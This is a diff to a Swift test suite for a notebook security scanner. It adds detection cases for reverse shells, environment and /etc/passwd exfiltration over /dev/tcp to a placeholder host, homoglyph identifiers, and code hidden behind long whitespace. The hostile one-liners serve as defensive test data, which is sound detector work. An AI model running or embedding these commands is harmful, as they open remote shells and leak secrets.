@@ -63,7 +63,11 @@ struct NotebookTests {
         arguments: [
             ("!bash -i >& /dev/tcp/1.2.3.4/80 0>&1", true), ("!echo > /dev/null; sh < /dev/tcp/1.2.3.4/80", true),
             ("!echo > /dev/tcp/1.2.3.4/80; sh < /dev/tcp/1.2.3.4/80", true),
-            ("!exec 5<>/dev/tcp/1.2.3.4/80; cat <&5 | sh", true),
+            ("!exec 5<>/dev/tcp/1.2.3.4/80; cat <&5 | sh", true), ("!bash -s : > /dev/tcp/1.2.3.4/80 0<&1", true),
+            ("!bash -s : > /dev/tcp/1.2.3.4/80", true), ("!echo $(env|base64): > /dev/tcp/1.2.3.4/80", true),
+            ("!: > /dev/tcp/1.2.3.4/80; sh < /dev/udp/1.2.3.4/80", true), ("!: > /dev/udp/1.2.3.4/80 0<&1; sh", true),
+            ("!cat /etc/passwd '' : > /dev/tcp/1.2.3.4/80", true), ("!cat x echo > /dev/tcp/1.2.3.4/80", true),
+            ("!for p in 1 2; do echo > /dev/tcp/h/$p && echo open; done", false), ("!echo > /dev/tcp/h/22 2>&1", false),
             ("!timeout 3 bash -c 'echo > /dev/tcp/127.0.0.1/80' 2>&1 && echo ok", false),
             ("!until (: > /dev/tcp/db/5432); do sleep 1; done", false),
         ])
@@ -124,7 +128,10 @@ struct NotebookTests {
         arguments: [
             ("x = \"\"\"\na\u{0432}\n\"\"\"\ny = 1", false), ("x = 'a\\'a\u{0432}'", false),
             ("x = \"\"\"\n\"\"\"\na\u{0432} = 1", true), ("x = '\na\u{0432} = 1", true),
-            ("# it's\na\u{0432} = 1", true),
+            ("# it's\na\u{0432} = 1", true), ("x = 'a\\\nb'\na\u{0432} = 1", true),
+            ("x = 'a\\\n'; a\u{0432} = 1", true), ("x = 'a\\\na\u{0432}'", false),
+            ("y = 1 # '\u{27}'\na\u{0432} = 1", true),
+            ("x = 1 // '''\na\u{0432} = 1", true), ("x = 'a\\\u{202E}b'", true),
         ])
     func alphabets(_ source: String, _ isFound: Bool) {
         #expect(findings(notebook(source)).contains { $0.ruleID == "CORDON-NBK-004" } == isFound)
@@ -132,10 +139,15 @@ struct NotebookTests {
 
     @Test(
         "Columns of numbers that are lined up are no hidden code, calls behind spaces are",
-        arguments: [("-x / 2, 0]", Severity.low), ("f(x)]", .high), ("0]; y = 1", .high)])
+        arguments: [
+            ("-x / 2, 0]", Severity.low), ("f(x)]", .high), ("0]; y = 1", .high), ("f\t(x)]", .high),
+            ("(f)(x)]", .high), ("g[0](x)]", .high), ("f \\\n(x)]", .high), ("(1, 2)]", .low),
+            ("0]\nm = [1," + String(repeating: " ", count: 190) + "f(x)]", .high),
+        ])
     func linedUp(_ rest: String, _ severity: Severity) {
         let source = "m = [1," + String(repeating: " ", count: 190) + rest
-        #expect(findings(notebook(source)).first { $0.ruleID == "CORDON-NBK-004" }?.severity == severity)
+        let found = Scanner().scan(bytes: Array(source.utf8), name: "a.py").findings
+        #expect(found.first { $0.ruleID == "CORDON-NBK-004" }?.severity == severity, "\(found)")
     }
 
     @Test(
